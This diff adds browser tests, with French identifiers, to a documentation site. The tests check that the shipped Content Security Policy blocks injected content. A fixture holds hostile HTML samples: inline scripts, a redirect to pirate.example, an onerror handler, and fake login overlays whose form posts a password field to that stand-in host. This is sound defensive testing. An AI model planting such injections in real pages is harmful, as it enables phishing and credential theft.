@@ -216,3 +216,127 @@ def test_configuration_nginx_de_production_valide(site_dir: Path, tmp_path: Path
         check=False,
     )
     assert run.returncode == 0, run.stderr
+
+
+# --- CSP: what the project does not ship is blocked, what it ships works ---------------
+
+# Injected as a gap in every earlier gate would let it through: a plain script, one shaped
+# like Material's own (the CSP once hashed anything template-shaped), a handler, and two
+# overlays (a style attribute and a <style> element) that would cover the page with a
+# fake login form.
+_INJECTE = """
+<script>window.__pirate = 1</script>
+<script>__md_scope=new URL("https://pirate.example/",location),window.__pirate_gabarit=1</script>
+<script>window.location.replace(["https://pirate.example/",window.location.search,window.location.hash].join(""))</script>
+<img src="/assets/images/absente.png" onerror="window.__pirate_attribut=1">
+<div id="faux-login" style="position:fixed;inset:0;z-index:99999;background:#fff">
+  <form action="https://pirate.example/"><input name="mdp"></form></div>
+<style>#faux-login-2 { position: fixed; inset: 0; z-index: 99999; }</style>
+<div id="faux-login-2">Session expirée</div>
+"""
+
+
+@pytest.fixture
+def serveur_pirate(site_dir: Path, tmp_path: Path) -> Any:
+    """A copy of the built site with hostile code in one fiche, served by nginx with
+    the shipped server block and the shipped headers."""
+    import shutil
+    import subprocess
+    import time
+    import urllib.request
+
+    from outils import nginx_conf
+
+    copie = tmp_path / "site"
+    shutil.copytree(site_dir, copie)
+    fiche = chemin(copie, "fiche")
+    html = copie / fiche.strip("/") / "index.html"
+    html.write_text(
+        html.read_text(encoding="utf-8").replace("</article>", _INJECTE + "</article>", 1),
+        encoding="utf-8",
+    )
+    import socket
+
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = int(s.getsockname()[1])
+    workdir = tmp_path / "nginx"
+    workdir.mkdir()
+    conf = nginx_conf(copie, port, workdir)
+    nginx = shutil.which("nginx") or "/usr/sbin/nginx"
+    proc = subprocess.Popen([nginx, "-p", str(workdir), "-c", str(conf)])
+    base = f"http://127.0.0.1:{port}"
+    for _ in range(100):
+        try:
+            urllib.request.urlopen(base + "/", timeout=1)
+            break
+        except OSError:
+            time.sleep(0.05)
+    yield base + fiche
+    proc.terminate()
+    proc.wait(timeout=10)
+
+
+@pytest.mark.browser
+def test_csp_bloque_script_et_surcouche_injectes_dans_une_page(
+    page: Any, serveur_pirate: str
+) -> None:
+    page.add_init_script(_CSP_LISTENER)
+    response = page.goto(serveur_pirate, wait_until="networkidle")
+    assert response.status == 200
+    assert "'unsafe-inline'" not in response.headers["content-security-policy"]
+    page.wait_for_function("window.__violations.length >= 6")
+    assert page.url == serveur_pirate  # Material's redirect script, re-aimed: blocked
+    for flag in ("__pirate", "__pirate_gabarit", "__pirate_attribut"):
+        assert page.evaluate(f"window.{flag}") is None, flag
+    for overlay in ("#faux-login", "#faux-login-2"):
+        assert page.locator(overlay).evaluate("e => getComputedStyle(e).position") != "fixed"
+    directives = {v.split()[0] for v in page.evaluate("window.__violations")}
+    assert {"script-src-elem", "script-src-attr", "style-src-attr", "style-src-elem"} <= directives
+    # The page's own features still run on the same page: Material's scripts did.
+    assert page.evaluate("typeof __md_get") == "function"
+
+
+@pytest.mark.browser
+def test_fonctions_du_site_sans_violation_csp(
+    page: Any, serveur: str, site_dir: Path, sortantes: Sortantes
+) -> None:
+    """Search, tooltips and « Orienter » work under the shipped policy, with no
+    violation reported by the browser on any of the three."""
+    page.add_init_script(_CSP_LISTENER)
+    # Search (Pagefind, its WebAssembly module and worker).
+    page.goto(serveur + "/recherche/?q=expulsion", wait_until="networkidle")
+    ouvrir_recherche(page)
+    assert page.locator("#ref-resultats .ref-resultat__titre a").count() > 0
+    assert page.evaluate("window.__violations") == []
+    # Tooltips of sigles.
+    for html in sorted((site_dir / "fiches").glob("*/index.html")):
+        if "<abbr title=" in html.read_text(encoding="utf-8"):
+            page.goto(f"{serveur}/fiches/{html.parent.name}/", wait_until="networkidle")
+            break
+    sigle = page.locator("article abbr.ref-sigle[tabindex='0']").first
+    sigle.focus()
+    bulle = page.get_by_role("tooltip")
+    assert bulle.is_visible() and bulle.inner_text() == sigle.get_attribute("data-forme-developpee")
+    assert page.evaluate("window.__violations") == []
+    # Orienter.
+    page.goto(serveur + "/orienter/", wait_until="networkidle")
+    page.get_by_label("Ce que dit la personne").fill("expulsion")
+    assert page.locator("section.ref-besoin:visible").count() > 0
+    assert page.evaluate("window.__violations") == []
+    assert sortantes.csp == [] and sortantes.externes == []
+
+
+def test_chaque_script_en_ligne_du_site_construit_est_livre(site_dir: Path) -> None:
+    """The allow-list covers the real build (else a feature would be blocked): every
+    executable inline script of every page is one of the shipped bodies."""
+    from referentiel.publish.scan import KnownScripts, parse
+
+    known = KnownScripts()
+    inconnus = [
+        (p.relative_to(site_dir).as_posix(), s.body[:60])
+        for p in sorted(site_dir.rglob("*.html"))
+        for s in parse(site_dir, p.relative_to(site_dir).as_posix()).scripts
+        if s.body not in known
+    ]
+    assert inconnus == []
